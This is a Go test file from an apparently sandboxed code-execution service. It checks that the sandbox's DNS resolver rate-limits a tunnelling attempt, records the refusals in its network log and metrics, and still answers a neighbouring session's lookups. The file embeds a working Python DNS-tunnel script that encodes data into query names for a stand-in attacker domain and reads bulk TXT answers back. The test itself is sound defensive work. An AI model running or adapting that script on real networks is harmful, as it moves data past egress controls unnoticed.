package hostile

import (
	"io"
	"net"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/cloud-sandbox/cloud-sandbox/tests/rig"
)

// accomplice is the name server of the attacker's domain. It counts the bytes of
// queries, and answers with as much data as fits.
type accomplice struct {
	address string
	heard   atomic.Int64 // bytes
}

func newAccomplice(t *testing.T) *accomplice {
	t.Helper()
	socket, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	a := &accomplice{address: socket.LocalAddr().String()}
	var serving sync.WaitGroup
	serving.Go(func() {
		buf := make([]byte, 2048)
		for {
			n, from, err := socket.ReadFrom(buf)
			if err != nil {
				return
			}
			a.heard.Add(int64(n))
			if out, err := answerFully(buf[:n]); err == nil {
				_, _ = socket.WriteTo(out, from)
			}
		}
	})
	t.Cleanup(func() { socket.Close(); serving.Wait() })
	return a
}

// answerFully answers a TXT query with 3 KB of text, and an A query with an address.
func answerFully(question []byte) ([]byte, error) {
	var m dnsmessage.Message
	if err := m.Unpack(question); err != nil {
		return nil, err
	}
	m.Response, m.Additionals = true, nil
	for _, q := range m.Questions {
		head := dnsmessage.ResourceHeader{Name: q.Name, Class: q.Class, TTL: 1}
		switch q.Type {
		case dnsmessage.TypeTXT:
			text := make([]string, 12)
			for i := range text {
				text[i] = strings.Repeat("x", 250)
			}
			m.Answers = append(m.Answers, dnsmessage.Resource{Header: head, Body: &dnsmessage.TXTResource{TXT: text}})
		case dnsmessage.TypeA:
			m.Answers = append(m.Answers, dnsmessage.Resource{Header: head, Body: &dnsmessage.AResource{A: [4]byte{192, 0, 2, 1}}})
		}
	}
	return m.Pack()
}

// tunnel sends 400 queries with 200 bytes of data in each name, the first of them one by
// one, so that no other limit stops them. Then it sends TXT queries as fast as it can,
// and prints the bytes of all answers.
const tunnel = `
import os, select, socket, struct, time
def question(i, labels, kind):
    name = b''.join(bytes([len(l)]) + l for l in labels + [b'tunnel', b'example'])
    return struct.pack('>6H', i & 0xffff, 0x0100, 1, 0, 0, 0) + name + b'\0' + struct.pack('>2H', kind, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('10.0.0.1', 53))
s.setblocking(False)
told = 0
def drain():
    global told
    while True:
        try: told += len(s.recv(65536))
        except OSError: return
for i in range(400):
    s.send(question(i, [os.urandom(25).hex().encode() for _ in range(4)], 1))
    if i < 120:
        select.select([s], [], [], 0.02)
    drain()
end = time.time() + 4
i = 0
while time.time() < end:
    i += 1
    s.send(question(i, [b'%x' % i], 16))
    drain()
    time.sleep(0.005)
drain()
print(told)
`

// A DNS tunnel is limited to a low rate, even though the rules allow the attacker's
// domain. A neighbour's lookups still work.
func TestTunnelsThroughNames(t *testing.T) {
	t.Parallel()
	a := newAccomplice(t)
	s := rig.Own(t, rig.Options{Pool: 1, Env: []string{"CLOUD_SANDBOX_NAMESERVERS=" + a.address}})
	c := s.Client(t, "tunnel")
	rules := rig.Body{"mode": "none", "allow": []string{"*.tunnel.example"}}
	id, neighbour := c.Create(t, rig.Body{"network": rules}).ID, c.Create(t, rig.Body{"network": rules}).ID

	began := time.Now()
	r := c.Run(t, id, "python", tunnel, rig.Body{"timeout_seconds": 60})
	told, err := strconv.ParseFloat(strings.TrimSpace(r.Stdout), 64)
	if err != nil || told == 0 {
		t.Fatalf("%v: %s", err, r)
	}
	elapsed := time.Since(began).Seconds()
	heard := float64(a.heard.Load())
	// The resolver's limits allow a burst and then a number of bytes per second.
	if most := 16<<10 + 2<<10*elapsed; heard == 0 || heard > most {
		t.Errorf("%.0f bytes left in names in %.1f s, want at most %.0f", heard, elapsed, most)
	}
	if most := 256<<10 + 32<<10*elapsed; told > most {
		t.Errorf("%.0f bytes came in answers in %.1f s, want at most %.0f", told, elapsed, most)
	}
	const ask = "import socket; print(socket.gethostbyname('after.tunnel.example'))"
	if r := c.Run(t, neighbour, "python", ask, nil); strings.TrimSpace(r.Stdout) != "192.0.2.1" {
		t.Errorf("a neighbour asks for a name: %s", r)
	}
	rig.Within(t, 30*time.Second, "names resolve again", func() bool {
		r, err := c.TryRun(id, "python", ask, rig.Body{"timeout_seconds": 20})
		return err == nil && strings.TrimSpace(r.Stdout) == "192.0.2.1"
	})
	var log struct {
		Decisions []struct{ Protocol, Reason string }
	}
	c.Must(t, "GET", "/api/v1/sessions/"+id+"/network/log?verdict=refused", nil, &log)
	reasons := ""
	for _, d := range log.Decisions {
		reasons += d.Protocol + " " + d.Reason + "\n"
	}
	for _, want := range []string{"dns more than 50 DNS queries a second", "dns DNS queries have more than 2048 bytes a second"} {
		if !strings.Contains(reasons, want) {
			t.Errorf("the network log does not say %q:\n%s", want, reasons)
		}
	}
	if n := limited(t, s.URL); n < 100 {
		t.Errorf("the metrics count %d that were held back", n)
	}
}

var limitedLine = regexp.MustCompile(`(?m)^cloud_sandbox_network_names_limited_total\{.*\} (\d+)$`)

// limited returns the number of rate-limited queries in the metrics.
func limited(t *testing.T, url string) int {
	t.Helper()
	resp, err := http.Get(url + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	page, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	n := -1
	if m := limitedLine.FindSubmatch(page); m != nil {
		n, _ = strconv.Atoi(string(m[1]))
	}
	return n
}
